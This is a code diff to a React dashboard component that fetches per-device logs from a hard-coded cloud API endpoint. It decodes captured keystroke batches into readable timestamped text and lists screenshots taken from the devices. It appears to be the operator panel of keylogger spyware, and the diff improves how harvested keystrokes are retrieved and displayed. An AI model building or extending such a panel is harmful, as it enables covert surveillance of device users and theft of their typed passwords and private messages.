@@ -22,6 +22,7 @@ import {
   CheckCircle
 } from "lucide-react";
 import { ImageWithFallback } from "./figma/ImageWithFallback";
+import { parseKeylogData } from "../keylog-codec";
 
 interface DeviceDetailsProps {
   device: {
@@ -156,22 +157,23 @@ const API_URL = "https://cw5b26zcta.execute-api.eu-north-1.amazonaws.com/prod/lo
 export function DeviceDetails({ device, onClose }: DeviceDetailsProps) {
   const [logs, setLogs] = useState<any[]>([]);
   const [loading, setLoading] = useState(true);
+  const [keylogs, setKeylogs] = useState("");
 
   useEffect(() => {
     const fetchDeviceLogs = async () => {
       try {
         setLoading(true);
-        const response = await fetch(API_URL);
+        // Only this device's logs, read from the device_id + timestamp index, with
+        // their full data (keystrokes, screenshot keys)
+        const params = new URLSearchParams({ device_id: device.id, limit: "500", view: "full" });
+        const response = await fetch(`${API_URL}?${params}`);
         if (!response.ok) throw new Error("Failed to fetch logs");
         const data = await response.json();
 
         // Sort data to show newest logs first
-        const sortedData = [...data].sort((a: any, b: any) =>
+        const deviceLogs = [...data].sort((a: any, b: any) =>
           new Date(b.timestamp).getTime() - new Date(a.timestamp).getTime()
         );
-
-        // Filter logs for THIS device only
-        const deviceLogs = sortedData.filter((log: any) => log.device_id === device.id);
         setLogs(deviceLogs);
       } catch (err) {
         console.error(err);
@@ -192,22 +194,27 @@ export function DeviceDetails({ device, onClose }: DeviceDetailsProps) {
     severity: log.type === 'critical' ? 'critical' : 'info'
   }));
 
-  const keylogs = logs
-    .filter(log => log.type === 'keylog')
-    .sort((a, b) => new Date(b.timestamp).getTime() - new Date(a.timestamp).getTime())
-    .map(log => {
+  // Keylog batches may be columnar-encoded, which decodes asynchronously
+  useEffect(() => {
+    let cancelled = false;
+    const keylogItems = logs
+      .filter(log => log.type === 'keylog')
+      .sort((a, b) => new Date(b.timestamp).getTime() - new Date(a.timestamp).getTime());
+
+    Promise.all(keylogItems.map(async log => {
       try {
-        const events = JSON.parse(log.data);
-        if (Array.isArray(events)) {
-          const keys = events.map((e: any) => e.key).join('');
-          return `[${new Date(log.timestamp).toLocaleString()}] ${keys}`;
-        }
-        return `[${new Date(log.timestamp).toLocaleString()}] (Malformed keylog data)`;
+        const events = await parseKeylogData(log.data);
+        const keys = events.map(e => e.key).join('');
+        return `[${new Date(log.timestamp).toLocaleString()}] ${keys}`;
       } catch {
         return `[${new Date(log.timestamp).toLocaleString()}] (Error parsing keylog data)`;
       }
-    })
-    .join('\n\n');
+    })).then(lines => {
+      if (!cancelled) setKeylogs(lines.join('\n\n'));
+    });
+
+    return () => { cancelled = true; };
+  }, [logs]);
 
   // Real screenshots from logs
   const realScreenshots = logs